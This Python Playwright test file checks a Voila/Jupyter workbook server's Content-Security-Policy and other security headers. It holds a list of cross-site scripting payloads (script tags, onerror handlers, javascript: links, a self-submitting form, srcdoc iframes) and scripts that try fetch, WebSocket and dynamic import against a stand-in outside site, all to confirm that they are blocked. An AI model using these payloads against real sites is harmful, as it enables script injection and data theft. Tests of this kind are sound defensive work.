"""Attacks on the content policy: something hostile did get into a page, and still does nothing."""

from __future__ import annotations

from collections import defaultdict
from collections.abc import Iterator
from http.client import HTTPMessage

import pytest
from attacking import Elsewhere, Place, add_cells, ask, changed, code, with_cookie, with_token
from live import Server, page_of
from playwright.sync_api import Browser, Page, expect

HIT = "window.hit=[...(window.hit||[]),'{}']"
OUTPUTS = {
    "a script": "<script>{hit}</script>",
    "a script of another site's": '<script src="{site}"></script>',
    "a handler": '<img src="x:" onerror="{hit}">',
    "a handler of a drawing": '<svg onload="{hit}"></svg>',
    "a page in the page": '<iframe srcdoc="<script>parent.{hit}</script>"></iframe>',
    "a page of another site's": '<iframe src="{site}"></iframe>',
    "a picture of another site's": '<img src="{site}">',
    "a style of another site's": '<link rel="stylesheet" href="{site}">',
    "a letter of another site's": "<style>@font-face{{font-family:x;src:url({site})}}"
                                  "p{{font-family:x}}</style>",
    "a film of another site's": '<video src="{site}" autoplay></video>',
    "an object of another site's": '<object data="{site}"></object>',
    "a base of another site's": '<base href="{site}/">',
    "a form that sends by itself": '<form id="f" action="{site}"></form>'
                                   '<script>document.forms.f.submit()</script>',
    "a link that runs": '<a href="javascript:{hit}" class="runs">Run</a>',
}  # fmt: skip


@pytest.fixture(scope="module")
def asked() -> list[str]:
    """All that the page of this file asked for."""
    return []


@pytest.fixture(scope="module")
def shown(
    browser: Browser, opened: Server, place: Place, site: Elsewhere, asked: list[str]
) -> Iterator[Page]:
    """A workbook whose own cells the user allowed; what they show came from an attacker."""
    told = [
        one.format(hit=HIT.format(name), site=site.put(f"policy-{number}", "<p>elsewhere</p>"))
        for number, (name, one) in enumerate(OUTPUTS.items())
    ]
    cells = [f"from IPython.display import HTML, Javascript, display\ndisplay(HTML({one!r}))"
             for one in told]  # fmt: skip
    cells.append(f"display(Javascript({HIT.format('Javascript')!r}))")
    cells.append("display(HTML('<p>The end of the page</p>'))")
    with changed(place.family / "cycle-3" / "workbook.ipynb") as workbook:
        add_cells(workbook, *map(code, cells))
        place.allow(workbook)
        with page_of(browser, "policy") as page:
            page.on("request", lambda one: asked.append(one.url))
            page.goto(opened.url("voila/render/cycle-3/workbook.ipynb?quick"))
            expect(page.get_by_text("The end of the page")).to_be_visible()
            page.locator('[data-prompt="take-home.checked"]').wait_for()
            yield page
        place.settings.unlink()


@pytest.mark.parametrize("name", [*OUTPUTS, "Javascript"])
def test_a_cell_that_was_allowed_shows_what_is_hostile(
    shown: Page, site: Elsewhere, name: str
) -> None:
    """It stands in the page, and does nothing."""
    if name == "a link that runs":
        shown.locator("a.runs").click()
    assert name not in shown.evaluate("window.hit || []")
    assert f"/policy-{list(OUTPUTS).index(name) if name in OUTPUTS else ''}" not in site.asked


def test_a_script_of_the_page_s_is_made_of_a_string(shown: Page) -> None:
    """As from inside the page, where its policy holds."""
    ran = shown.evaluate(
        """() => new Promise((tell) => setTimeout(() => {
             const ran = [];
             for (const way of [() => eval("1"), () => new Function("return 1")()]) {
               try { ran.push(way()); } catch { ran.push("refused"); }
             }
             tell(ran);
           }, 0))"""
    )
    assert ran == ["refused", "refused"]


def test_a_page_reaches_for_another_machine(
    shown: Page, asked: list[str], opened: Server, site: Elsewhere
) -> None:
    """By whatever a script of its own could do: nothing but this server is asked."""
    refused = shown.evaluate(
        """(site) => new Promise((tell) => setTimeout(async () => {
             const refused = [];
             for (const [name, way] of Object.entries({
               fetch: () => fetch(site, { mode: "no-cors" }),
               picture: () => new Promise((well, ill) => Object.assign(
                 new Image(), { onload: well, onerror: ill, src: site })),
               socket: () => new Promise((well, ill) => Object.assign(
                 new WebSocket(site.replace("http", "ws")), { onopen: well, onerror: ill })),
               script: () => import(site),
             })) {
               try { await way(); } catch { refused.push(name); }
             }
             tell(refused);
           }, 0))""",
        site.put("reached", "<p>elsewhere</p>"),
    )
    assert refused == ["fetch", "picture", "socket", "script"]
    assert "/reached" not in site.asked
    here = (opened.base, "data:", "blob:")
    went = [one for one in asked if not one.startswith(here)]
    assert [one for one in went if one.partition("://")[2].split("/")[-1] in site.asked] == []


@pytest.mark.parametrize("path", ["vigbook/", "voila/render/cycle-1/workbook.ipynb",
                                  "vigbook/papers/cycle-1/take-home.pdf/"])  # fmt: skip
def test_another_site_frames_a_page(
    family_page: Page, opened: Server, site: Elsewhere, path: str
) -> None:
    """Its person would press buttons that they do not see: the frame stays empty."""
    frame = f'<iframe src="{opened.base}{path}"></iframe>'
    family_page.goto(site.put("frame", f"<p>Win</p>{frame}"), wait_until="load")
    inside = family_page.frames[1]
    inside.wait_for_load_state("load")
    assert inside.url.startswith(("chrome-error:", "about:"))


# --- Every answer ---------------------------------------------------------------------------

ANSWERS = {
    "a page": "vigbook/", "a workbook": "voila/render/cycle-1/workbook.ipynb",
    "a workbook that may not run": "voila/render/cycle-2/workbook.ipynb",
    "one that is not there": "voila/render/cycle-9/workbook.ipynb",
    "what was answered": "vigbook/api/cycle-1/answers?prompt=remember",
    "a clip": "vigbook/media/cycle-1/clip-1.mp4",
    "a refused clip": "vigbook/media/cycle-1/clip-2.mp4",
    "a paper": "vigbook/papers/cycle-1/take-home.pdf",
    "a paper's page": "vigbook/papers/cycle-1/take-home.pdf/",
    "a paper's picture": "vigbook/papers/cycle-1/take-home.pdf/1.png",
    "a style": "vigbook/live/common.css", "a script": "vigbook/live/front.js",
    "Voila's script": "voila/static/voila.js",
    "Voila's style": "voila/templates/lab/static/voila.js",
    "Voila's theme": "voila/api/themes/@jupyterlab/theme-light-extension/index.css",
    "a widget's script": "voila/labextensions/anywidget/package.json",
    "choosing clips": "vigbook/prepare/cycle-1", "the film": "vigbook/film/cycle-1/film",
    "a wrong time": "vigbook/api/cycle-1/moments?at=x&reach=y",
    "the clips": "vigbook/api/cycle-1/prepare",
    "no kernel": "api/kernels/00000000-0000-0000-0000-000000000000",
    "nothing": "nothing", "the root": "", "Jupyter's": "api/contents/case.yaml",
    "an unknown ticket": "vigbook/enter?ticket=x", "a broken address": "vigbook/%ff%00",
}  # fmt: skip
METHODS = ("GET", "HEAD", "PUT", "BREW")


@pytest.mark.parametrize("name", ANSWERS)
def test_an_answer_is_put_to_another_use(opened: Server, name: str) -> None:
    """With a key and without one, well or ill, for whatever method: it carries the policy."""
    for headers in (with_token(opened), with_cookie(opened), {}):
        for method in METHODS:
            if "render" in ANSWERS[name] and (headers or method == "HEAD") and method != "GET":
                continue
            for accept in ("text/html", "*/*"):
                if name == "a workbook" and accept == "*/*":
                    continue  # it would run twice
                sent = {**headers, "Accept": accept}
                answer = ask(opened, ANSWERS[name], method, headers=sent)
                check_guarded(answer.headers, f"{method} {answer.status} {sorted(sent)}")


def check_guarded(headers: HTTPMessage, about: str) -> None:
    """Checks what every answer carries."""
    found = defaultdict(str, headers.items())
    policy = found["Content-Security-Policy"]
    assert "frame-ancestors 'self'" in policy or "default-src 'none'" in policy, about
    assert "unsafe-eval" not in policy, about
    assert "script-src 'self'" in policy or "default-src 'none'" in policy, about
    assert found["X-Content-Type-Options"] == "nosniff", about
    assert found["Cross-Origin-Resource-Policy"] == "same-origin", about
    assert found["Referrer-Policy"] == "no-referrer", about
    assert found["Access-Control-Allow-Origin"] == "", about


@pytest.mark.parametrize(
    "path", ["lab/tree/cycle-1/workbook.ipynb", "lab", "api/contents/cycle-1/workbook.ipynb",
             "api/contents/case.yaml", "files/cycle-1/media/clip-1.mp4", "static/favicons/x.ico",
             "static/lab/main.js", "lab/api/settings", "api/kernels", "nothing", "lab/", "api"],
)  # fmt: skip
def test_an_answer_of_jupyterlab_s_server_is_put_to_another_use(labbed: Server, path: str) -> None:
    """It makes scripts of strings, but nothing frames it and nobody reads it from elsewhere."""
    for headers in (with_token(labbed), {}):
        answer = ask(labbed, path, headers=headers)
        assert "frame-ancestors 'self'" in answer.headers["Content-Security-Policy"]
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Cross-Origin-Resource-Policy"] == "same-origin"
        assert answer.headers["Access-Control-Allow-Origin"] is None
